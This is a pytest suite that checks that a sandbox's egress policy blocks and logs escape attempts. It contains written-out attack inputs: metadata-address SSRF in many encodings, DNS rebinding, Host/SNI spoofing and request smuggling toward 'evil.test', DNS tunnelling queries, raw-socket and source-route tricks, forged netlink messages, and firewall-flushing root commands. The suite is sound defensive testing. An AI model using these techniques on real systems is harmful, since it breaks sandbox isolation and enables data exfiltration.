"""Ways around the network policy, each tried from inside: nothing arrives, and the log says that it was tried.

The forbidden addresses are real ones of the lab, with servers that would answer: a connection that gets through is seen.
"""

import socket
import struct

import pytest

import netlab
import warren

ANSWER = b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\n\r\nREACHED"
METADATA = "169.254.169.254"
PORTS = (80, 443, 8080)
NAMES = {"denyOut": ["0.0.0.0/0"], "allowOut": ["web.test", "*.wild.test"]}

# One connection: who was asked, what it sends, what comes back.
TALK = """
import socket, ssl, sys
def talk(address, port, data=b"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n", before=None, sni=None, family=None):
    try:
        info = socket.getaddrinfo(address, port, family or 0, socket.SOCK_STREAM)[0]
        s = socket.socket(info[0], socket.SOCK_STREAM)
        s.settimeout(15)
        if before: before(s)
        s.connect(info[4])
        if sni is not None:
            context = ssl._create_unverified_context()
            s = context.wrap_socket(s, server_hostname=sni or None)
        s.sendall(data)
        out = b""
        while True:
            more = s.recv(65536)
            if not more: break
            out += more
            if b"REACHED" in out: break
        return out or b"(closed)"
    except (OSError, ssl.SSLError) as error:
        return repr(error).encode()
"""


def answering(connection):
    """Answers whatever is asked, once per request head."""
    while connection.recv(65536):
        connection.sendall(ANSWER)


@pytest.fixture(scope="module")
def lab():
    with netlab.Lab() as made:
        made.names(**{"web.test": netlab.WEB, "a.wild.test": netlab.WEB, "evil.test": netlab.OTHER, "loop.test": "127.0.0.1",
                      "loop6.test": "::1", "meta.wild.test": METADATA, "private.test": "10.20.30.40", "own.test": netlab.HOST,
                      "rebind.test": netlab.WEB, "mixed.test": [netlab.WEB, METADATA]})
        made.bait = [made.listen(answering, address, port) for address in netlab.BAIT for port in PORTS]
        made.bait += [netlab.Listener(made.host, address, 8080, answering) for address in (netlab.HOST, netlab.HOST6, "127.0.0.1")]
        made.web = made.listen(answering, port=80)
        made.tls = made.listen(answering, port=443, names=("web.test", "*.wild.test"))
        made.evil = [made.listen(answering, address=netlab.OTHER, port=port) for port in (80, 53)]
        made.evil.append(made.listen(answering, address=netlab.OTHER, port=443, names=("evil.test",)))
        yield made


@pytest.fixture(scope="module")
def running(lab):
    with lab.warren("--api-listen", f"{netlab.HOST}:3000", "--ingress-listen", f"{netlab.HOST}:3002") as made:
        yield made


@pytest.fixture(scope="module")
def box(running):
    """Everything that is not forbidden to all is allowed."""
    made = netlab.create(running)
    yield made
    made.kill()


@pytest.fixture(scope="module")
def named(running):
    """Two domain rules only."""
    made = netlab.create(running, NAMES)
    yield made
    made.kill()


@pytest.fixture(scope="module")
def closed(running):
    made = netlab.create(running, allow_internet_access=False)
    yield made
    made.kill()


@pytest.fixture(autouse=True)
def nobody_was_reached(lab):
    """After every test: no forbidden server has seen a connection, and the machinery that would show it works."""
    yield
    assert not [one.address for one in lab.bait if one.accepted], "a forbidden address was reached"


def talk(sandbox, expression, user="user"):
    """Evaluates it in a Python of the sandbox -> what came back."""
    return sandbox.python(TALK + f"\nprint({expression}.decode('latin-1'))", user, timeout=60).out


def denied(server, sandbox, since, **wanted):
    """The events above `since` that refuse what was tried."""
    return [one for one in netlab.decisions(server, sandbox, **wanted)
            if one["number"] > since and one["verdict"] == "deny" and one["kind"] in ("deny", "dns", "http")]


def last(server, sandbox):
    return max([one["number"] for one in netlab.decisions(server, sandbox)], default=0)


def assert_blocked(server, sandbox, expression, **wanted):
    since = last(server, sandbox)
    out = talk(sandbox, expression)
    assert "REACHED" not in out, out
    events = warren.wait_for(lambda: denied(server, sandbox, since, **wanted), 30, f"{expression} is logged as denied")
    assert all(event["rule"] for event in events), events
    return out, events


def test_the_lab_would_show_a_breach(lab, running, box):
    """The bait answers those who may ask, and an allowed server is reached: nothing below passes for want of a network."""
    assert lab.host.call(lambda: _ask(METADATA, 80)) == ANSWER
    lab.bait[0].accepted = 0
    assert lab.bait[0].address == METADATA
    assert "REACHED" in talk(box, f"talk({netlab.WEB!r}, 80)")


def _ask(address, port):
    with socket.create_connection((address, port), 5) as connection:
        connection.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return connection.recv(1000)


@pytest.mark.parametrize("address", netlab.BAIT)
@pytest.mark.parametrize("port", PORTS)
def test_forbidden_ranges(running, box, address, port):
    _, events = assert_blocked(running, box, f"talk({address!r}, {port})", address=address, port=port)
    assert events[0]["rule"].startswith("blocked: ")


@pytest.mark.parametrize("spelling", [
    "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "169.16689662", "169.254.43518", "::ffff:169.254.169.254",
    "::ffff:a9fe:a9fe", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "fd00:ec2::254"])
def test_the_metadata_address_in_all_spellings(running, box, spelling):
    assert_blocked(running, box, f"talk({spelling!r}, 80)")


def test_metadata_by_an_allowed_range(running, lab):
    """What is always blocked stays so when a sandbox's creator allows it."""
    made = netlab.create(running, {"allowOut": ["169.254.0.0/16", "10.0.0.0/8", "fd00::/8"]})
    for address in (METADATA, "10.20.30.40", "fd12:3456::1"):
        assert_blocked(running, made, f"talk({address!r}, 80)", address=address)
    made.kill()


def test_metadata_by_a_redirect(running, box, lab):
    def redirect(connection):
        connection.recv(65536)
        connection.sendall(f"HTTP/1.1 302 Found\r\nLocation: http://{METADATA}/latest\r\nContent-Length: 0\r\n\r\n".encode())

    server = lab.listen(redirect, port=8081)
    since = last(running, box)
    done = box.run(["curl", "-sSL", "-m", "15", f"http://{netlab.WEB}:{server.port}/"])
    assert done.code != 0 and "REACHED" not in done.out
    assert denied(running, box, since, address=METADATA)


@pytest.mark.parametrize("name", ["loop.test", "loop6.test", "private.test", "meta.wild.test", "own.test"])
def test_names_of_forbidden_addresses(running, box, name):
    out, events = assert_blocked(running, box, f"talk({name!r}, 8080)", name=name)
    assert "gaierror" in out and events[0]["kind"] == "dns"


def test_a_name_with_one_forbidden_address(running, box):
    out = box.python("import socket; print(sorted({a[4][0] for a in socket.getaddrinfo('mixed.test', 80)}))").out
    assert METADATA not in out and netlab.WEB in out, out


def test_rebinding(running, named, lab):
    """A name is public when it is asked for and private when it is connected to: the egress asks again, and refuses."""
    made = netlab.create(running, {"denyOut": ["0.0.0.0/0"], "allowOut": ["rebind.test"]})
    assert "REACHED" in talk(made, "talk('rebind.test', 80, b'GET / HTTP/1.1\\r\\nHost: rebind.test\\r\\n\\r\\n')")
    lab.names(**{"rebind.test": METADATA})

    def refused():
        since = last(running, made)
        out = talk(made, f"talk({netlab.WEB!r}, 80, b'GET / HTTP/1.1\\r\\nHost: rebind.test\\r\\n\\r\\n')")
        return "REACHED" not in out and bool(denied(running, made, since))

    warren.wait_for(refused, 30, "the new address counts")
    lab.names(**{"rebind.test": netlab.WEB})
    made.kill()


@pytest.mark.parametrize("address,port", [
    (netlab.HOST, 3000), (netlab.HOST, 3002), (netlab.HOST6, 3000), (netlab.HOST, 8080), (netlab.HOST6, 8080), (netlab.HOST, 22)])
def test_the_host_and_the_control_api(running, box, address, port):
    out, _ = assert_blocked(running, box, f"talk({address!r}, {port})", address=address, port=port)
    assert "Health" not in out and "code" not in out


@pytest.mark.parametrize("address", ["127.0.0.1", "localhost", "0.0.0.0", "::", "::1", "::ffff:127.0.0.1", "127.1.2.3", "192.0.0.2"])
def test_loopback_is_the_sandboxs_own(box, address):
    """The host listens on 127.0.0.1:8080; in the sandbox nobody does."""
    assert "ConnectionRefusedError" in talk(box, f"talk({address!r}, 8080)")


def test_siblings(running, box, named):
    """Addresses that a neighbour has in its namespace, and those of network groups."""
    service = named.start(["/usr/bin/python3", "-m", "http.server", "8080", "--bind", "::"])
    warren.wait_for(lambda: "200" in talk(named, "talk('127.0.0.1', 8080)"), 30, "the neighbour's service listens")
    assert "ConnectionRefusedError" in talk(box, "talk('192.0.0.2', 8080)")
    assert_blocked(running, box, "talk('198.18.0.1', 8080)", address="198.18.0.1")
    assert "gaierror" in talk(box, f"talk('{named.id}.internal', 8080)")
    service.close()


@pytest.mark.parametrize("target", [("192.0.0.1", 1), ("192.0.0.1", 2), ("fd00::1", 1), ("fd00::1", 8080)])
def test_the_sockets_of_the_egress_themselves(running, box, target):
    out = talk(box, f"talk({target[0]!r}, {target[1]})")
    assert "REACHED" not in out and ("Error" in out or "closed" in out), out


class TestNames:
    """A policy of names: what is said and where it goes have to agree."""

    def test_allowed(self, named, lab):
        assert "REACHED" in talk(named, "talk('web.test', 80, b'GET / HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n')")
        assert "REACHED" in talk(named, "talk('web.test', 443, sni='web.test')")
        assert "REACHED" in talk(named, "talk('a.wild.test', 443, sni='a.wild.test')")

    @pytest.mark.parametrize("host", [
        "evil.test", "web.test.evil.test", "wild.test", "evilweb.test", "web.test@evil.test", "198.51.100.10", "", "web.test:evil",
        "WEB.TEST.", "web.test, evil.test"])
    def test_hosts(self, running, named, lab, host):
        """`WEB.TEST.` is web.test, with its dot; all others are refused."""
        out = talk(named, f"talk({netlab.WEB!r}, 80, b'GET / HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n')")
        assert ("REACHED" in out) == (host == "WEB.TEST."), out

    @pytest.mark.parametrize("sni", ["evil.test", "web.test.evil.test", "wild.test", ""])
    def test_server_names(self, running, named, lab, sni):
        before = lab.tls.accepted
        assert_blocked(running, named, f"talk({netlab.WEB!r}, 443, sni={sni!r})", port=443)
        assert lab.tls.accepted == before

    def test_another_destination_under_an_allowed_name(self, running, named, lab):
        """/etc/hosts inside, or a client of its own, sends web.test's name to another address: web.test answers."""
        before = [one.accepted for one in lab.evil]
        web, tls = lab.web.accepted, lab.tls.accepted
        assert "REACHED" in talk(named, f"talk({netlab.OTHER!r}, 80, b'GET / HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n')")
        assert "REACHED" in talk(named, f"talk({netlab.OTHER!r}, 443, sni='web.test')")
        assert [one.accepted for one in lab.evil] == before
        assert lab.web.accepted == web + 1 and lab.tls.accepted == tls + 1

    def test_a_forbidden_destination_under_an_allowed_name(self, running, named):
        assert_blocked(running, named, f"talk({METADATA!r}, 80, b'GET / HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n')", address=METADATA)
        assert_blocked(running, named, f"talk({METADATA!r}, 443, sni='web.test')", address=METADATA)

    def test_the_second_request_of_a_connection(self, running, named, lab):
        data = b"GET / HTTP/1.1\r\nHost: web.test\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"
        since = last(running, named)
        out = named.python(TALK.replace('if b"REACHED" in out: break', "") +
                           f"\nprint(talk('web.test', 80, {data!r}).decode('latin-1'))", timeout=60).out
        assert out.count("REACHED") == 1 and " 421 " in out, out
        assert denied(running, named, since, kind="http")

    @pytest.mark.parametrize("request_line", [
        "GET http://evil.test/ HTTP/1.1", "CONNECT evil.test:443 HTTP/1.1", "CONNECT web.test:443 HTTP/1.1", "PRI * HTTP/2.0"])
    def test_request_lines(self, running, named, lab, request_line):
        seen = lab.web.accepted
        out = talk(named, f"talk('web.test', 80, b'{request_line}\\r\\nHost: web.test\\r\\n\\r\\n')")
        assert "REACHED" not in out, out
        assert lab.web.accepted == seen

    @pytest.mark.parametrize("data", [
        b"GET / HTTP/1.1\r\nHost: web.test\r\nHost: evil.test\r\n\r\n", b"GET / HTTP/1.1\nHost: web.test\n\n",
        b"GET / HTTP/1.1\r\nX: 1\r\n Host: evil.test\r\nHost: web.test\r\n\r\n", b"GET / HTTP/1.1\r\n\r\nHost: web.test\r\n\r\n"])
    def test_requests_that_two_parsers_read_differently(self, named, data):
        assert "REACHED" not in talk(named, f"talk({netlab.WEB!r}, 80, {data!r})")

    @pytest.mark.parametrize("port", [22, 25, 853, 8080, 8443])
    @pytest.mark.parametrize("address", [netlab.WEB, netlab.OTHER])
    def test_other_ports(self, running, named, lab, address, port):
        """Names count on 80 and 443 only, also for the address that an allowed name has."""
        server = lab.listen(answering, address=address, port=port)
        assert_blocked(running, named, f"talk({address!r}, {port})", address=address, port=port)
        server.close()
        assert server.accepted == 0

    def test_the_port_of_dns_leads_nowhere_else(self, named, lab):
        """The server that listens there is never reached: whoever connects to port 53 talks to the egress."""
        assert "REACHED" not in talk(named, f"talk({netlab.OTHER!r}, 53)")
        assert not [one for one in lab.evil if one.port == 53 and one.accepted]

    def test_fronting_where_tls_is_ended_here(self, running, lab):
        made = netlab.create(running, {**NAMES, "rules": {"web.test": [{"transform": {"headers": {"X-Injected": "1"}}}]}})
        good = talk(made, "talk('web.test', 443, b'GET / HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n', sni='web.test')")
        since = last(running, made)
        bad = talk(made, "talk('web.test', 443, b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n', sni='web.test')")
        assert "REACHED" in good and "REACHED" not in bad and " 421 " in bad, (good, bad)
        assert denied(running, made, since, kind="http")
        made.kill()


ASK = """
import socket, struct, sys
def ask(name, kind, server="8.8.8.8", tcp=False, source=None, pad=0):
    labels = b"".join(bytes([len(l)]) + l for l in name.encode().split(b".") if l) + b"\\0"
    message = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack(">2H", kind, 1) + bytes(pad)
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(8)
    try:
        if source: s.bind(("192.0.0.2", source))
        s.connect((server, 53))
        s.sendall((struct.pack(">H", len(message)) if tcp else b"") + message)
        answer = s.recv(4096)[2 if tcp else 0:]
        return "rcode %d answers %d" % (answer[3] & 15, struct.unpack(">H", answer[6:8])[0])
    except OSError as error:
        return repr(error)
"""
REFUSED, NULL, TXT, ANY, AXFR, A = 5, 10, 16, 255, 252, 1


def ask(sandbox, expression):
    return sandbox.python(ASK + f"\nprint({expression})").out.strip()


class TestTunnels:
    """DNS as a way out: nothing of a forbidden question reaches the resolver."""

    def asked(self, lab, text):
        return [line for line in lab.questions() if text in line]

    @pytest.mark.parametrize("kind", [A, TXT, NULL, ANY])
    @pytest.mark.parametrize("tcp", [False, True])
    def test_forbidden_names(self, running, named, lab, kind, tcp):
        since = last(running, named)
        assert ask(named, f"ask('secret-data.evil.test', {kind}, tcp={tcp})") == f"rcode {REFUSED} answers 0"
        assert not self.asked(lab, "secret-data.evil")
        assert denied(running, named, since, kind="dns", name="secret-data.evil.test")

    @pytest.mark.parametrize("kind", [NULL, ANY, AXFR, 99, 65000])
    def test_record_types_that_nobody_may_ask(self, running, box, lab, kind):
        since = last(running, box)
        assert ask(box, f"ask('tunnel-{kind}.test', {kind})") == f"rcode {REFUSED} answers 0"
        assert not self.asked(lab, f"tunnel-{kind}.test")
        assert denied(running, box, since, kind="dns")

    def test_text_records_under_a_policy_of_names(self, running, named, lab):
        assert ask(named, f"ask('data.wild.test', {TXT})").endswith("answers 0")
        assert not self.asked(lab, "query[TXT] data.wild.test")

    def test_long_labels(self, running, named, lab):
        name = ".".join(["a" * 63] * 3 + ["evil.test"])
        assert ask(named, f"ask({name!r}, {A})") == f"rcode {REFUSED} answers 0"
        assert not self.asked(lab, "a" * 63)

    def test_no_internet_means_no_names(self, running, closed, lab):
        since = last(running, closed)
        assert ask(closed, f"ask('web.test', {A})") == f"rcode {REFUSED} answers 0"
        assert denied(running, closed, since, kind="dns", name="web.test")
        assert_blocked(running, closed, f"talk({netlab.WEB!r}, 80)", address=netlab.WEB)

    @pytest.mark.parametrize("server", ["8.8.8.8", netlab.OTHER, netlab.RESOLVER, METADATA, "10.20.30.40"])
    @pytest.mark.parametrize("tcp", [False, True])
    def test_every_server_is_this_one(self, named, lab, server, tcp):
        before = [one.accepted for one in lab.evil]
        assert ask(named, f"ask('web.test', {A}, {server!r}, tcp={tcp})") == "rcode 0 answers 1"
        assert ask(named, f"ask('evil.test', {A}, {server!r}, tcp={tcp})") == f"rcode {REFUSED} answers 0"
        assert [one.accepted for one in lab.evil] == before

    @pytest.mark.parametrize("source", [53, 1, 853])
    def test_source_ports(self, named, source):
        assert ask(named, f"ask('evil.test', {A}, source={source})") == f"rcode {REFUSED} answers 0"

    def test_fragments(self, named, lab):
        """A datagram of 6,000 bytes with a small MTU of the socket's own: put together by the kernel, refused as a message."""
        out = named.python("""
import socket
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.settimeout(3)
s.setsockopt(socket.IPPROTO_IPV6, 24, 1280)  # IPV6_MTU
s.setsockopt(socket.IPPROTO_IPV6, 23, 0)     # IPV6_MTU_DISCOVER: fragments are allowed
try:
    s.sendto(b"\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"\\4evil\\4test\\0\\0\\1\\0\\1" + bytes(6000), ("2001:db8::53", 53))
    print("rcode", s.recv(4096)[3] & 15)
except OSError as error:
    print(repr(error))
""").out
        assert "rcode 0" not in out, out
        assert not self.asked(lab, "evil.test")


class TestSockets:
    """Kinds of sockets and options that could go another way."""

    @pytest.mark.parametrize("family,kind,protocol", [
        ("AF_INET", "SOCK_RAW", 6), ("AF_INET", "SOCK_RAW", 255), ("AF_INET6", "SOCK_RAW", 58), ("AF_PACKET", "SOCK_RAW", 0x300),
        ("AF_PACKET", "SOCK_DGRAM", 0x300), ("AF_NETLINK", "SOCK_RAW", 12), ("AF_NETLINK", "SOCK_RAW", 6), ("AF_VSOCK", "SOCK_STREAM", 0)])
    @pytest.mark.parametrize("user", ["user", "root"])
    def test_refused_kinds(self, box, family, kind, protocol, user):
        out = box.python(f"""
import socket
try:
    socket.socket(socket.{family}, socket.{kind}, {protocol}); print("MADE")
except OSError as error:
    print("refused", error.errno)
""", user).out
        assert out.startswith("refused"), out

    @pytest.mark.parametrize("protocol", [17, 136, 132, 33, 1])
    def test_other_protocols_fail_at_once(self, box, protocol):
        """UDP, UDP-Lite, SCTP, DCCP and ICMP: no route, or no such socket."""
        out = box.python(f"""
import socket
kind = {{132: socket.SOCK_STREAM, 33: 6}}.get({protocol}, socket.SOCK_DGRAM)
try:
    s = socket.socket(socket.AF_INET, kind, {protocol})
    s.settimeout(5)
    s.connect(({netlab.WEB!r}, 443))
    s.send(b"x")
    print("SENT", s.recv(10))
except OSError as error:
    print("refused", error.errno, type(error).__name__)
""").out
        assert out.startswith("refused") and "imeout" not in out, out

    @pytest.mark.parametrize("options", [
        # loose source route through the metadata address; record route
        "s.setsockopt(0, 4, bytes([0x83, 7, 4]) + socket.inet_aton('169.254.169.254') + b'\\0')",
        "s.setsockopt(0, 4, bytes([7, 7, 4, 0, 0, 0, 0, 0]))",
        "s.setsockopt(0, 19, 1)", "s.setsockopt(0, 15, 1); s.bind(('169.254.169.254', 0))", "s.setsockopt(1, 36, 1)",
        "s.setsockopt(1, 25, b'lo\\0')", "s.bind(('192.0.0.1', 0))", "s.bind(('8.8.8.8', 53))", "s.bind(('', 53))", "s.bind(('', 1))"])
    @pytest.mark.parametrize("user", ["user", "root"])
    def test_socket_options(self, running, box, options, user):
        """Source routes, transparent and foreign source addresses, marks, devices, source ports."""
        since = last(running, box)
        out = talk(box, f"talk({METADATA!r}, 80, before=lambda s: [{options.replace('; ', ', ')}])", user)
        assert "REACHED" not in out
        if "Error" not in out or "Reset" in out:
            assert denied(running, box, since, address=METADATA)

    @pytest.mark.parametrize("option", [
        "s.setsockopt(41, 54, bytes([0, 0]) + bytes(6))",  # IPV6_HOPOPTS
        "s.setsockopt(41, 59, bytes([0, 0]) + bytes(6))",  # IPV6_DSTOPTS
        "s.setsockopt(41, 57, bytes([0, 2, 0, 1, 0, 0, 0, 0]) + socket.inet_pton(10, 'fd00:ec2::254'))",  # IPV6_RTHDR
        "s.setsockopt(41, 57, bytes([0, 2, 2, 1, 0, 0, 0, 0]) + socket.inet_pton(10, 'fd00:ec2::254'))"])
    def test_extension_headers(self, running, box, option):
        since = last(running, box)
        out = talk(box, f"talk('fd00:ec2::254', 80, before=lambda s: {option})", "root")
        assert "REACHED" not in out
        if "Permission" not in out and "Invalid" not in out:
            assert denied(running, box, since, address="fd00:ec2::254")

    def test_multipath_tcp_and_fast_open(self, running, box):
        since = last(running, box)
        out = box.python(f"""
import socket
for kind in ("mptcp", "fastopen"):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262 if kind == "mptcp" else 0)
        s.settimeout(10)
        if kind == "mptcp": s.connect(({METADATA!r}, 80))
        else: s.sendto(b"GET / HTTP/1.0\\r\\n\\r\\n", 0x20000000, ({METADATA!r}, 80))
        print(kind, s.recv(100))
    except OSError as error:
        print(kind, repr(error))
""").out
        assert "REACHED" not in out and "200" not in out, out
        assert denied(running, box, since, address=METADATA)


def test_rules_cannot_be_changed_from_inside(box):
    """The tools are there for root, the rights are not; the namespace's owner is the nest."""
    for command in ("ip route add 169.254.0.0/16 dev lo", "ip rule del pref 10", "ip route flush table main",
                    "nft flush ruleset", "iptables -F", "unshare -n true", "nsenter -t 1 -n ip link"):
        done = box.run(f"sudo sh -c '{command}'")
        assert done.code != 0, (command, done)


@pytest.mark.parametrize("kind,body", [
    (24, struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 4, 0, 1, 0)),  # RTM_NEWROUTE
    (25, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 0, 0, 0, 0)),   # RTM_DELROUTE
    (33, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 0, 0, 1, 0)),   # RTM_DELRULE
    (20, struct.pack("=BBBBI", 2, 32, 0, 0, 1)),                    # RTM_NEWADDR
])
def test_forged_messages_to_the_kernel(box, kind, body):
    """Programs may read addresses by netlink; changing anything is refused, also for root."""
    message = struct.pack("=IHHII", 16 + len(body), kind, 5 | 0x400, 1, 0) + body
    out = box.python(f"""
import socket, struct
s = socket.socket(16, socket.SOCK_RAW, 0)
s.send({message!r})
answer = s.recv(4096)
print(struct.unpack("=HH", answer[4:8])[0], struct.unpack("=i", answer[16:20])[0])
""", "root").out
    assert out == "2 -1\n", out
